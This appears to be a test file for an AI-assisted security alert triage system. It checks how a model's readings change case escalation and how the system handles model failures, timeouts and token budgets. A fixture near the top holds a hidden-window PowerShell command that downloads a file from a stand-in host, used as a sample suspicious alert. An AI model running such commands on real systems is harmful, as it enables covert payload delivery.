import assert from "node:assert/strict";
import { describe, test } from "node:test";
import type { Alert } from "../../core/alert/alert.ts";
import { emptyFields } from "../../core/event/event.ts";
import { verifyAnswers } from "../../core/evidence/answer.ts";
import type { DomainEvent, RunState } from "../../core/run/run.ts";
import { nextRunStep } from "../../stages/next.ts";
import { alertOf, minuteMs, noonMs, placed } from "../../testing/alerts.ts";
import { smallWorld } from "../../testing/small-world.ts";
import { allowing, emptyAnswers, failedAnswer, modelParts, type Telling, toldModel, wordTools } from "../../testing/told-model.ts";
import { investigateStep } from "../investigate-step.ts";
import { eventsIn } from "../journal/read-opened.ts";
import { caseRecordOf, openRecorder, type Recorder } from "../recorder.ts";
import type { World } from "../world.ts";

const command =
  "powershell -NoProfile -WindowStyle Hidden -Command Invoke-WebRequest http://files.example.test/a.txt -OutFile C:\\t\\a.txt";
const quote = "-WindowStyle Hidden";

/** One machine, one account, one long command line. */
const suspicious = (parts: Partial<Alert> = {}): Alert[] => [
  alertOf(1, {
    timeMs: noonMs,
    host: "ws-7.example.test",
    user: "rhea",
    rule: "Hidden PowerShell",
    title: "Hidden PowerShell window",
    severity: "medium",
    dataset: "windows",
    observables: [
      { type: "ip", value: "203.0.113.7", role: "target" },
      { type: "hash", value: "a".repeat(64), role: "file" },
    ],
    fields: Object.assign(emptyFields(), { CommandLine: command }),
    ...parts,
  }),
];

async function investigated(recorder: Recorder, world: World): Promise<RunState> {
  for (;;) {
    const step = nextRunStep(recorder.state);
    if (step.do !== "investigate") return recorder.state;
    await investigateStep(step.caseId, caseRecordOf(recorder), world);
  }
}

const settledCase = (state: RunState) => {
  const only = state.cases.get("case-1");
  assert.ok(only?.status === "closed" || only?.status === "escalated");
  return only;
};

async function caseWith(world: World, alerts = suspicious()) {
  const recorder = await placed(alerts, world);
  const state = await investigated(recorder, world);
  const facts = (await eventsIn(world.journal)).map((event) => JSON.parse(event) as DomainEvent);
  return { state, facts, settled: settledCase(state) };
}

const closing = () => wordTools(allowing);
const hostileReading = JSON.stringify({
  intent: "command-execution",
  marks: [{ mark: "hides-itself", span: { from: null, to: null, quote } }],
  entities: [],
});
const saying =
  (parts: Partial<typeof emptyAnswers>): Telling =>
  ({ role }) =>
    ({ ...emptyAnswers, ...parts })[role];

describe("a case with a model", () => {
  test("an investigation without one asks none, and its record holds nothing of any", async () => {
    const { facts, settled } = await caseWith(smallWorld({ tools: closing() }));
    assert.equal(settled.model, undefined);
    assert.deepEqual(
      facts.filter(({ type }) => type.startsWith("Model")),
      [],
    );
    assert.equal(settled.status, "closed", "the tools agree that it is allowed");
  });

  test("a model that adds nothing changes nothing but what is said of it", async () => {
    const without = await caseWith(smallWorld({ tools: closing() }));
    const model = toldModel(saying({}));
    const withIt = await caseWith(smallWorld({ tools: closing(), models: modelParts(model) }));
    const { model: added, ...rest } = withIt.settled;
    const { model: _, ...same } = without.settled;
    assert.deepEqual(rest, same);
    assert.deepEqual(
      added?.calls.map(({ call, outcome }) => [call.role, outcome?.kind]),
      [
        ["reader", "accepted"],
        ["planner", "accepted"],
        ["writer", "accepted"],
      ],
    );
    assert.ok(added.tokens <= 6_000, `${added.tokens} tokens`);
  });

  test("a hostile reading with a place in the text hands a case to a person that would be closed, and proposes nothing", async () => {
    const without = await caseWith(smallWorld({ tools: closing() }));
    const { settled, facts } = await caseWith(
      smallWorld({ tools: closing(), models: modelParts(toldModel(saying({ reader: hostileReading }))) }),
    );
    assert.equal(settled.status, "escalated");
    assert.equal(settled.conclusion.verdict, "insufficient-data");
    assert.equal(settled.conclusion.severity, "medium");
    assert.deepEqual(settled.conclusion.evidence, without.settled.conclusion.evidence);
    assert.deepEqual([settled.proposals, settled.techniques], [without.settled.proposals, without.settled.techniques]);
    assert.match(settled.conclusion.because, /\[e-m1\]/);
    const [item] = settled.model?.evidence ?? [];
    assert.deepEqual([item?.by, item?.weight, item?.tool, item?.trust], ["model", 0, "model/reader", "attacker-writable"]);
    assert.match(item?.says ?? "", /hides-itself \("-WindowStyle Hidden"\)/);
    assert.ok(!settled.evidence.has("e-m1"), "what is weighed does not hold it");
    assert.ok(verifyAnswers(facts).intact);
  });

  test("where policy lets no model say no, it is closed all the same", async () => {
    const models = modelParts(toldModel(saying({ reader: hostileReading })), { "may-veto-closing": false });
    const { settled } = await caseWith(smallWorld({ tools: closing(), models }));
    assert.equal(settled.status, "closed");
  });

  test("a hostile intent without a place in the text hands on nothing", async () => {
    const reader = JSON.stringify({ intent: "command-execution", marks: [], entities: [] });
    const { settled } = await caseWith(smallWorld({ tools: closing(), models: modelParts(toldModel(saying({ reader }))) }));
    assert.equal(settled.status, "closed");
  });

  test("an answer to a question that a model proposed hands a closed case on where the playbook says that it speaks for an attack", async () => {
    const tools = new Map([...closing(), ...wordTools({ "intelligence/look-up": "known-bad" })]);
    // Its own playbook never gets to ask; a model proposes the question.
    const world = smallWorld({ tools });
    const own = world.playbooks.map(({ playbook, digest }) => ({
      digest,
      playbook:
        playbook["starts-on"] === "any" || playbook.playbook === "malware"
          ? playbook
          : { ...playbook, investigate: playbook.investigate.filter(({ tool }) => tool !== "intelligence/look-up") },
    }));
    const planner: Telling = ({ role, prompt }) => {
      if (role !== "planner") return emptyAnswers[role];
      const offered = /^(\S+\/\S+) about (h-\d+)[^:]*:.*known to be (?:hostile|malicious|bad)/m.exec(prompt.text);
      const questions = offered ? [{ question: offered[1], about: offered[2] }] : [];
      return JSON.stringify({ questions, hypotheses: [{ category: "malware", refutedBy: [] }] });
    };
    const alerts = suspicious({ category: "defense-evasion" });
    const without = await caseWith(smallWorld({ tools, playbooks: own }), alerts);
    const { settled } = await caseWith(smallWorld({ tools, playbooks: own, models: modelParts(toldModel(planner)) }), alerts);
    assert.equal(without.settled.status, "closed", without.settled.conclusion.because);
    assert.equal(settled.status, "escalated", JSON.stringify(settled.model?.questions));
    assert.equal(settled.model?.evidence.at(-1)?.answer, "known-bad");
    assert.deepEqual(settled.model?.hypotheses, [{ category: "malware", refutedBy: [] }]);
    assert.deepEqual([...settled.settled], [...without.settled.settled], "its own questions are as they were");
  });

  for (const why of ["refused", "late", "rate-limited", "unreachable", "broken-off", "too-long"] as const)
    test(`a model that is ${why} leaves the case as it is without, and the case says so`, async () => {
      const without = await caseWith(smallWorld({ tools: closing() }));
      const model = toldModel(() => failedAnswer(why));
      const { settled } = await caseWith(smallWorld({ tools: closing(), models: modelParts(model) }));
      assert.deepEqual(settled.conclusion, without.settled.conclusion);
      assert.deepEqual(
        settled.model?.calls.map(({ outcome }) => outcome?.kind === "failed" && outcome.why),
        [why, why, why],
      );
    });

  test("what cannot be read, what throws and what is far too long is a failed call", async () => {
    const texts = [
      "",
      "{",
      "null",
      '{"intent":"ordinary-business"}',
      "x".repeat(300_000),
      '{"questions":[{"question":"a/b","about":"h-1"}],"hypotheses":[]}',
    ];
    for (const text of texts) {
      const { settled } = await caseWith(smallWorld({ tools: closing(), models: modelParts(toldModel(() => text)) }));
      assert.equal(settled.status, "closed");
      for (const { outcome } of settled.model?.calls ?? []) assert.equal(outcome?.kind, "failed");
    }
    const throwing = toldModel(() => Promise.reject(new Error("boom")));
    const { settled } = await caseWith(smallWorld({ tools: closing(), models: modelParts(throwing) }));
    assert.equal(settled.model?.calls[0]?.outcome?.kind, "failed");
  });

  test("a model that never answers is waited for as long as its time, and no longer", async () => {
    const slow = toldModel(() => new Promise(() => {}), { parameters: { temperature: 0, outputTokensMax: 500, timeMs: 700 } });
    let nowMs = noonMs;
    const slept: number[] = [];
    const clock = {
      nowMs: () => nowMs,
      sleep: async (delayMs: number) => {
        slept.push(delayMs);
        nowMs += delayMs;
      },
    };
    const models = modelParts(slow, { budget: { "seconds-per-case": 3 } });
    const world = smallWorld({ models, tools: closing() });
    const recorder = await placed(suspicious(), world);
    await investigated(recorder, {
      ...world,
      clock: { ...clock, sleep: (delayMs) => (delayMs >= 30_000 ? new Promise(() => {}) : clock.sleep(delayMs)) },
    });
    const { model } = settledCase(recorder.state);
    assert.deepEqual(
      model?.calls.map(({ outcome }) => outcome?.kind === "failed" && outcome.why),
      ["late", "late"],
    );
    assert.deepEqual(
      model?.skipped.map(({ role, why }) => [role, why]),
      [["writer", "budget-spent"]],
    );
    assert.ok(slept.reduce((sum, each) => sum + each, 0) <= 3_000 + 2_000);
  });

  test("a process that ended between question and answer leaves the reservation spent, and nothing is asked again", async () => {
    const world = smallWorld({ tools: closing() });
    const dying = toldModel(({ role }) => (role === "planner" ? Promise.reject(new Error("killed")) : emptyAnswers[role]));
    const recorder = await placed(suspicious(), world);
    const record = caseRecordOf(recorder);
    const dead = new Error("the process ended");
    let asks = 0;
    const tell: typeof record.tell = async (decide) => {
      // The planner's question is durable; its answer is not.
      if (asks === 2) throw dead;
      await record.tell(() => {
        const facts = decide();
        asks += facts.filter(({ type }) => type === "ModelAsked").length;
        return facts;
      });
    };
    await assert.rejects(investigateStep("case-1", { ...record, tell }, { ...world, models: modelParts(dying) }), dead);
    const again = await openRecorder(world.journal, world.clock);
    const model = toldModel(saying({}));
    const state = await investigated(again, { ...world, models: modelParts(model) });
    const { model: added, status } = settledCase(state);
    assert.equal(status, "closed");
    assert.deepEqual(
      model.asked.map(({ role }) => role),
      ["writer"],
      "neither reader nor planner is asked twice",
    );
    const lost = added?.calls.find(({ key }) => key === "planner");
    assert.ok(lost?.outcome?.kind === "failed" && lost.outcome.why === "broken-off");
    assert.equal(lost.outcome.use.inputTokens, lost.call.reservedTokens);
    assert.equal(state.modelSpend.dayTokens, added?.tokens);
  });

  test("hundreds of cases in a storm stop at the budget of a day, and go on without a model", async () => {
    const alerts = Array.from({ length: 30 }, (_, index) => ({
      ...suspicious({
        timeMs: noonMs + index * minuteMs,
        host: `ws-${index}`,
        user: `user-${index}`,
        observables: [],
        rule: `rule ${index}`,
      })[0]!,
      id: `a-${index + 1}`,
    }));
    const model = toldModel(saying({}));
    const world = smallWorld({
      tools: closing(),
      models: modelParts(model, { budget: { "tokens-per-day": 20_000, "tokens-per-minute": 1_000_000 } }),
    });
    const recorder = await placed(alerts, world);
    const state = await investigated(recorder, world);
    assert.equal(state.casesSettled, state.cases.size);
    assert.ok(state.modelSpend.dayTokens <= 20_000 && state.modelSpend.dayTokens > 15_000, `${state.modelSpend.dayTokens}`);
    const skipped = [...state.cases.values()].filter(
      (each) => each.status !== "unopened" && each.model?.skipped.some(({ why }) => why === "budget-spent"),
    );
    assert.ok(skipped.length > 10);
  });

  test("a server that fails again and again is left alone", async () => {
    const alerts = Array.from({ length: 12 }, (_, index) => ({
      ...suspicious({
        timeMs: noonMs + index * minuteMs,
        host: `ws-${index}`,
        user: `user-${index}`,
        observables: [],
        rule: `rule ${index}`,
      })[0]!,
      id: `a-${index + 1}`,
    }));
    const model = toldModel(() => failedAnswer("unreachable"));
    const world = smallWorld({ tools: closing(), models: modelParts(model) });
    const recorder = await placed(alerts, world);
    const state = await investigated(recorder, world);
    assert.equal(model.asked.length, 5);
    const last = state.cases.get(`case-${state.cases.size}`);
    assert.ok(last && last.status !== "unopened" && last.model?.skipped.every(({ why }) => why === "breaker-open"));
  });
});
